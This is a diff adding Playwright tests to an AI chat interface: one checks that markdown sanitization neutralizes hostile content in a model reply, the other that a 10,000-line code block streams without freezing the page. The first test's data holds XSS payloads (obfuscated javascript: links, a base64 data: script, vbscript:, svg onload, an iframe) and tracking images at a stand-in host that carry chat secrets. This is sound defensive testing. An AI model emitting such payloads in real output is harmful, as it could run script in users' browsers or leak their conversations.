@@ -112,3 +112,50 @@ test("Copy code puts the code on the clipboard", async ({ page, fakeApi }) => {
   await expect(content.getByRole("status")).toHaveText("Copied");
   expect(await page.evaluate(() => navigator.clipboard.readText())).toBe("const a = 1;\nconst b = a + 1;");
 });
+
+test("obfuscated script links, data/vbscript links and tracking images stay inert", async ({ page, fakeApi, seenRequests }) => {
+  const hostile = [
+    "[a](&#106;avascript:window.__pwned=1) [b](java%0Ascript:window.__pwned=2) [c]( javascript:window.__pwned=3)",
+    "[d](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD00PC9zY3JpcHQ+) [e](vbscript:msgbox(1)) [f](JAVA&#x09;SCRIPT:window.__pwned=6)",
+    "",
+    "[![pixel](https://tracker.example/p.gif?chat=secret)](https://tracker.example/click)",
+    "",
+    "![ref pixel][px]",
+    "",
+    "[px]: https://tracker.example/ref.gif",
+    "",
+    '<svg onload="window.__pwned=7"></svg> <iframe src="javascript:window.__pwned=8"></iframe>',
+    "",
+  ].join("\n");
+  fakeApi.enqueue({ type: "reply", tokens: linesAsTokens(hostile) });
+  await send(page, "Hide a tracker");
+  const content = lastReply(page).locator(".message-text");
+  await expect(lastReply(page)).toHaveAttribute("aria-busy", "false");
+  await expect(content.locator("img, svg, iframe, script")).toHaveCount(0);
+  // The only live link is the https one around the image; no script, data or vbscript link exists.
+  const hrefs = await content.locator("a").evaluateAll((links) => links.map((link) => link.getAttribute("href")));
+  expect(hrefs).toEqual(["https://tracker.example/click"]);
+  for (const name of ["a", "b", "c", "d", "e", "f"]) await content.getByText(name, { exact: true }).first().click();
+  expect(await pwned(page)).toBeUndefined();
+  expect(seenRequests.filter((request) => request.url.includes("tracker.example"))).toEqual([]);
+});
+
+test("a 10,000-line code block streams in and the page stays usable", async ({ page, fakeApi }) => {
+  const lines = Array.from({ length: 10_000 }, (_, index) => `console.log("line ${index}");\n`);
+  // One token per ten lines: a thousand updates, as a fast model would send them.
+  const tokens = ["```js\n"];
+  for (let index = 0; index < lines.length; index += 10) tokens.push(lines.slice(index, index + 10).join(""));
+  tokens.push("```\n");
+  fakeApi.enqueue({ type: "reply", tokens });
+  await send(page, "Print ten thousand lines");
+  // A CSS locator: role queries walk the accessibility tree of 10,000 lines on every poll.
+  const reply = page.locator("article.message-assistant").last();
+  await expect(reply).toHaveAttribute("aria-busy", "false", { timeout: 25_000 });
+  await expect(reply.locator("pre code")).toContainText('console.log("line 9999");');
+  // Too long to highlight without freezing the page: shown plain.
+  await expect(reply.locator("pre code")).toHaveClass(/no-highlight/);
+  // Still responsive: typing in the composer shows at once.
+  const composer = page.getByRole("textbox", { name: "Message" });
+  await composer.fill("Still here");
+  await expect(composer).toHaveValue("Still here");
+});
